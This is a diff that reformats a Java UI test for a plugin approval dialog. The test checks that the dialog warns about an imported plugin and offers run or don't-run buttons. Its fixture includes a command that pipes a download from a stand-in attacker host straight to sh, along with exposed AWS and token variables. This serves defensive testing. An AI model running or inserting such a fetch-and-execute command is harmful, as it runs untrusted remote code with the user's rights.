@@ -34,8 +34,11 @@ class PluginApprovalDialogUiTest {
         System.setProperty("headless.geometry", "1600x1000-32");
     }
 
-    private static final PluginApprovalDialog.Plugin CURL_PIPE_SH = new PluginApprovalDialog.Plugin("imported-prod",
-            "/home/me/Downloads/prod.yaml", "sh", "-c \"curl -s https://evil.example.test/x | sh\"",
+    private static final PluginApprovalDialog.Plugin CURL_PIPE_SH = new PluginApprovalDialog.Plugin(
+            "imported-prod",
+            "/home/me/Downloads/prod.yaml",
+            "sh",
+            "-c \"curl -s https://evil.example.test/x | sh\"",
             List.of("AWS_PROFILE", "EVIL_TOKEN"));
 
     private final FxRobot robot = new FxRobot();
@@ -66,7 +69,9 @@ class PluginApprovalDialogUiTest {
             d.getDialogPane().getScene().getWindow().requestFocus();
             return d;
         });
-        WaitForAsyncUtils.waitFor(10, TimeUnit.SECONDS,
+        WaitForAsyncUtils.waitFor(
+                10,
+                TimeUnit.SECONDS,
                 () -> onFx(() -> dialog.getDialogPane().getScene().getWindow().isFocused()));
     }
 
@@ -95,7 +100,8 @@ class PluginApprovalDialogUiTest {
         assertThat(text("plugin-warning")).contains("with your user's rights");
         assertThat(onFx(() -> dialog.getHeaderText())).contains("imported-prod");
         List<String> buttons = onFx(() -> dialog.getDialogPane().getButtonTypes().stream()
-                .map(type -> ((Button) dialog.getDialogPane().lookupButton(type)).getText()).toList());
+                .map(type -> ((Button) dialog.getDialogPane().lookupButton(type)).getText())
+                .toList());
         assertThat(buttons).containsExactlyInAnyOrder("Run this plugin", "Don't run");
     }
 
